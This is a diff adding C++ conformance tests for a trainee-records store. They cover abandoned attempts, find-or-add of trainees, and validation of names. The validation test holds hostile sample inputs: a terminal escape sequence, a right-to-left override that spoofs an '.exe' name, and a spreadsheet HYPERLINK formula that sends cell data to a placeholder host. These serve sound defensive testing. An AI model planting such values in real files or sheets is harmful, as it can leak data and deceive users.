@@ -609,3 +609,61 @@ INSTANTIATE_TEST_SUITE_P(Implementations, StoreConformance, ::testing::ValuesIn(
 
 } // namespace
 } // namespace sl::test
+
+namespace sl::test {
+namespace {
+
+TEST_P(StoreConformance, AbandonedAttemptsAreNeitherResumedNorWritten) {
+    const RowId ana = NewTrainee("Ana");
+    const RowId open = NewAttempt(ana);
+    const RowId kept = NewAttempt(ana);
+    Append(open, 0, "ack t-os");
+    ASSERT_TRUE(S().AbandonAttempt(open, 9000).Ok());
+    Reopen();
+    auto unfinished = S().UnfinishedAttempts(ana);
+    ASSERT_TRUE(unfinished.Ok());
+    ASSERT_EQ(unfinished->size(), 1u);
+    EXPECT_EQ(unfinished->front().m_id, kept);
+    auto a = S().GetAttempt(open);
+    ASSERT_TRUE(a.Ok());
+    EXPECT_EQ(a->m_abandonedWall, std::optional<WallTime>(9000));
+    EXPECT_FALSE(a->m_finished);
+    EXPECT_EQ(a->m_eventCount, 1);
+    // No more events, no second abandon, no finishing; a finished attempt cannot be abandoned.
+    EXPECT_FALSE(S().AppendEvent(Event{open, 1, 60, 5001, "wait 1m", {}}).Ok());
+    EXPECT_EQ(S().AbandonAttempt(open, 9500).Error().m_kind, StoreErrorKind::Constraint);
+    EXPECT_EQ(S().AbandonAttempt(open + 100, 9500).Error().m_kind, StoreErrorKind::NotFound);
+    ASSERT_TRUE(S().FinishAttempt(kept, HandReport(), 9900, 3600).Ok());
+    EXPECT_EQ(S().AbandonAttempt(kept, 9950).Error().m_kind, StoreErrorKind::Constraint);
+}
+
+TEST_P(StoreConformance, FindOrAddTraineeCreatesOnceThenFinds) {
+    auto first = S().FindOrAddTrainee("Ben", "spring");
+    ASSERT_TRUE(first.Ok()) << first.Error().m_message;
+    Reopen();
+    auto again = S().FindOrAddTrainee("Ben", "other cohort"); // found: the cohort is not changed
+    ASSERT_TRUE(again.Ok());
+    EXPECT_EQ(again->m_id, first->m_id);
+    EXPECT_EQ(again->m_cohort, "spring");
+    EXPECT_EQ(S().Trainees(std::nullopt)->size(), 1u);
+}
+
+// Names reach terminals, spreadsheets and JSON: they are refused where they enter, whoever writes them.
+TEST_P(StoreConformance, NamesMustBePrintableUtf8) {
+    const std::string bad[] = {std::string("bad\xff", 4), "esc\x1b[31mred", "tab\there", "new\nline",
+                               "rtl\xe2\x80\xae" "fdp.exe", " padded", std::string(101, 'x')};
+    for (const std::string& name : bad) {
+        SCOPED_TRACE(name);
+        EXPECT_EQ(S().AddTrainee(name, "").Error().m_kind, StoreErrorKind::Invalid);
+        EXPECT_EQ(S().FindOrAddTrainee(name, "").Error().m_kind, StoreErrorKind::Invalid);
+        EXPECT_EQ(S().AddTrainee("Ok", name).Error().m_kind, StoreErrorKind::Invalid);
+        EXPECT_EQ(S().AddCohort(name).Error().m_kind, StoreErrorKind::Invalid);
+    }
+    EXPECT_TRUE(S().Trainees(std::nullopt)->empty());
+    // Formula-looking and non-Latin names are fine here (CSV output neutralises them).
+    EXPECT_TRUE(S().AddTrainee("=HYPERLINK(\"http://x/?\"&A1,\"click\")", "=1+1").Ok());
+    EXPECT_TRUE(S().AddTrainee("Zoë 名前", "").Ok());
+}
+
+} // namespace
+} // namespace sl::test
